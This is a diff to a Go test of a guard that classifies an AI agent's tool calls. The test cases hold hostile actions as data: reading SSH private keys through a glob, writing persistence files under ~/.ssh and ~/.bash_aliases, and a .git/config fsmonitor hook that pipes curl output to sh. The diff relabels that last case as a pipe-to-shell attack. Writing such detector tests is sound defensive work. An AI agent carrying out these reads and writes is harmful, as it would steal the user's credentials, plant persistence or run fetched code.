@@ -21,7 +21,7 @@ func TestRedTeamToolCalls(t *testing.T) {
 		{"read through a glob", toolCall("Read", map[string]any{"file_path": "/home/ann/.ss?/id_rsa"}), "credentials.read_glob"},
 		{"write ~/.ssh/rc", toolCall("Write", map[string]any{"file_path": "/home/ann/.ssh/rc", "content": "x"}), "persistence.backdoor"},
 		{"write ~/.bash_aliases", toolCall("Write", map[string]any{"file_path": "/home/ann/.bash_aliases", "content": "alias sudo=x"}), "persistence.startup_files"},
-		{"write .git/config", toolCall("Write", map[string]any{"file_path": "/work/proj/.git/config", "content": "[core]\n\tfsmonitor = curl x | sh"}), "persistence.command_config"},
+		{"write .git/config", toolCall("Write", map[string]any{"file_path": "/work/proj/.git/config", "content": "[core]\n\tfsmonitor = curl x | sh"}), "destructive_shell.pipe_to_shell"},
 		{"glob lists ~/.ssh", toolCall("Glob", map[string]any{"pattern": "/home/ann/.ssh/*"}), ""},
 		{"glob of the project", toolCall("Glob", map[string]any{"pattern": "**/*.go"}), ""},
 		{"read a project file", toolCall("Read", map[string]any{"file_path": "/work/proj/README.md"}), ""},
